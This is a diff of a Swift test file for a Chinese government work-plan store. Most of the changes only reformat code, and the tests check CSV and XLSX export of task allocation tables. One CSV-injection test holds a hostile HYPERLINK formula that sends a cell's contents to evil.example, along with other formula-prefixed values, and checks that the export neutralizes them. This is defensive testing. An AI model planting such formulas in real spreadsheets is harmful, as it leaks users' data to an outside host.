@@ -1,5 +1,6 @@
 import Foundation
 import Testing
+
 @testable import PlanStore
 @testable import ReportExtraction
 
@@ -21,7 +22,11 @@ struct ExportTests {
         case text(String), number(Double)
         init(from decoder: any Decoder) throws {
             let container = try decoder.singleValueContainer()
-            if let number = try? container.decode(Double.self) { self = .number(number) } else { self = .text(try container.decode(String.self)) }
+            if let number = try? container.decode(Double.self) {
+                self = .number(number)
+            } else {
+                self = .text(try container.decode(String.self))
+            }
         }
     }
 
@@ -31,7 +36,8 @@ struct ExportTests {
         let (test, tasks) = try await ProgressTests.assigned(engine)
         _ = try await test.store.setDeadline(taskID: tasks[0].id, deadline: "2022-06-30", change: Change(actor: "督查室"))
         _ = try await test.store.fileProgress(
-            ProgressInput(taskID: tasks[2].id, department: "区住建局", reportedOn: "2022-06-20", narrative: "已开工41个", value: 41, actor: "a"))
+            ProgressInput(
+                taskID: tasks[2].id, department: "区住建局", reportedOn: "2022-06-20", narrative: "已开工41个", value: 41, actor: "a"))
         let url = FileManager.default.temporaryDirectory.appendingPathComponent("分工方案-\(UUID().uuidString).xlsx")
         // act
         let table = try await test.store.allocationTable(jurisdiction: "白水区", planYear: 2022, asOf: ISODate("2022-07-01")!)
@@ -68,7 +74,13 @@ struct ExportTests {
     @Test("the CSV has a byte-order mark, CRLF lines and quotes where a field needs them")
     func csv() {
         let table = AllocationTable(
-            title: "t", rows: [[.number(1), .text("新建\"口袋公园\"60处, 绿道40公里"), .text("区园林局"), .text(""), .text("2022年12月31日"), .text("60处"), .text(""), .text("○")]])
+            title: "t",
+            rows: [
+                [
+                    .number(1), .text("新建\"口袋公园\"60处, 绿道40公里"), .text("区园林局"), .text(""), .text("2022年12月31日"), .text("60处"),
+                    .text(""), .text("○"),
+                ]
+            ])
         let csv = table.csv()
         #expect(csv.hasPrefix("\u{FEFF}序号,工作任务,牵头单位"))
         #expect(csv.contains("\r\n1,\"新建\"\"口袋公园\"\"60处, 绿道40公里\",区园林局,,"))
@@ -85,7 +97,9 @@ struct ExportTests {
         #expect(CSVDocument.neutralized("-3.5") == "-3.5")
         #expect(CSVDocument.neutralized("+12") == "+12")
         #expect(CSVDocument.neutralized("已开工") == "已开工")
-        let table = AllocationTable(title: "t", rows: [[.number(-1), .text(Self.hostile), .text("@区园林局"), .text(""), .text(""), .text(""), .text(""), .text("")]])
+        let table = AllocationTable(
+            title: "t",
+            rows: [[.number(-1), .text(Self.hostile), .text("@区园林局"), .text(""), .text(""), .text(""), .text(""), .text("")]])
         let csv = table.csv()
         #expect(csv.contains(#"-1,"'=HYPERLINK(""http://evil.example/?""&A2,""详情"")",'@区园林局"#))
         #expect(CSVDocument.row(["=1+1", "x"]) == "'=1+1,x\r\n")
@@ -96,7 +110,8 @@ struct ExportTests {
         let test = try await TestStore.make(engine)
         let url = FileManager.default.temporaryDirectory.appendingPathComponent("分工方案-\(UUID().uuidString).xlsx")
         let table = AllocationTable(
-            title: "t", rows: [[.number(-1), .text(Self.hostile), .text("@区园林局"), .text("+1"), .text("-2"), .text(""), .text(""), .text("")]])
+            title: "t",
+            rows: [[.number(-1), .text(Self.hostile), .text("@区园林局"), .text("+1"), .text("-2"), .text(""), .text(""), .text("")]])
         try await test.store.exportAllocationXLSX(table, to: url)
         await test.finish()
         let result = try Self.run(["python3", Self.reader, url.path])
